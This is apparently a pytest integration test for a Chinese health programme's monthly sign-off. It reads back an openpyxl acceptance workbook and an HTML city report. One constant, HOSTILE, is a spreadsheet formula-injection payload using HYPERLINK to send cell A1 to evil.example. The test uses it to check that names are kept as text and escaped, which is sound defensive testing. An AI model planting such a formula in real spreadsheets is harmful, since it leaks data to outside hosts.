"""The commission's sheet of a signed month, read back with openpyxl: headers, one row per
organisation, the totals, the evidence, and a hostile organisation name kept as text; the
city page of a date of the signed month shows the signature and the subsidies."""

import dataclasses
import datetime as dt

import openpyxl
import pytest

from expectations.programme.signoff import sign_month
from expectations.programme.subsidies import load_subsidy_config
from expectations.publish.acceptance_sheet import (
    EVIDENCE_HEADER,
    SUMMARY_HEADER,
    write_acceptance_sheet,
)
from expectations.publish.report import write_reports
from expectations.rules.results import write_results
from expectations.scoring.config import load_scoring_config
from expectations.scoring.store import score_date
from tests.expectations.programme.test_signoff import OFFICERS
from tests.expectations.scoring.test_scoring import complete, completeness_only, org, registry

pytestmark = pytest.mark.integration

NOV = [dt.date(2026, 11, d) for d in range(1, 5)]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def test_sheet_reads_back_with_rows_totals_and_evidence(rt, tmp_path):
    hostile = dataclasses.replace(org("H2", "secondary"), name=HOSTILE)
    orgs = registry(org("H1"), hostile, org("C1", "county"))
    results = []
    for day in NOV:
        results += completeness_only("H1", day, 1, 0)
        results += completeness_only("H2", day, *((17, 3) if day == NOV[0] else (1, 0)))
        if day != NOV[3]:  # C1 sends nothing on the last day: expected, not scored
            results += completeness_only("C1", day, 1, 0, ds="health_record")
        complete(rt.ch, day)
    write_results(rt.ch, results)
    signed = sign_month(
        rt.ch,
        orgs,
        NOV[0],
        "王质控",
        load_scoring_config(),
        load_subsidy_config(),
        officers=OFFICERS,
    )
    path = write_acceptance_sheet(signed, tmp_path / "sheets" / "2026-11.xlsx")

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["验收结果", "证据"]
    summary = [[c.value for c in row] for row in book["验收结果"].iter_rows()]
    signed_at = f"{signed.signature['signed_at']:%Y-%m-%d %H:%M:%S}"
    assert summary[0] == list(SUMMARY_HEADER)
    county = "浉河区 (411502)"
    by = ["王质控", signed_at]
    assert summary[1:] == [
        ["H1", "H1 医院", "三级医院", county, 4, 4, 0, "合格", 50000, *by],
        ["H2", "'" + HOSTILE, "二级医院", county, 4, 3, 0, "不合格", 0, *by],
        ["C1", "C1 医院", "县区公共卫生平台", county, 3, 3, 0, "合格", 60000, *by],
        ["合计", "3 家机构，2 家合格", None, None, 11, 10, 0, 2, 110000, *by],
    ]
    name_cell = book["验收结果"]["B3"]
    assert name_cell.data_type == "s"  # text, never a formula

    evidence = [[c.value for c in row] for row in book["证据"].iter_rows()]
    assert evidence[0] == list(EVIDENCE_HEADER)
    assert len(evidence) == 1 + 3 * 4  # every organisation-day expected
    assert evidence[5] == ["H2", "'" + HOSTILE, "2026-11-01", "r1", 85, "否", 0]
    assert evidence[-1] == ["C1", "C1 医院", "2026-11-04", "r1", None, "未评分", 0]
    assert book["证据"]["B6"].data_type == "s"

    # the city page of a date of the month shows the signature and the subsidies, escaped
    score_date(rt.ch, orgs, NOV[1])
    page = write_reports(rt.ch, orgs, NOV[1], tmp_path / "reports")["city"]
    html = page.read_text(encoding="utf-8")
    section = html[
        html.index('id="signoff"') : html.index("</section>", html.index('id="signoff"'))
    ]
    assert "2026-11 上传验收签字" in section and "第 1 版" in section and "王质控" in section
    assert "补助合计 Subsidies <b>110,000</b> 元（一期）" in section
    assert "<td>H1 医院</td>" in section and '<td class="num">50,000</td>' in section
    assert "HYPERLINK" not in section  # H2 did not pass: no subsidy line
    assert HOSTILE not in html  # the hostile name is escaped wherever it shows
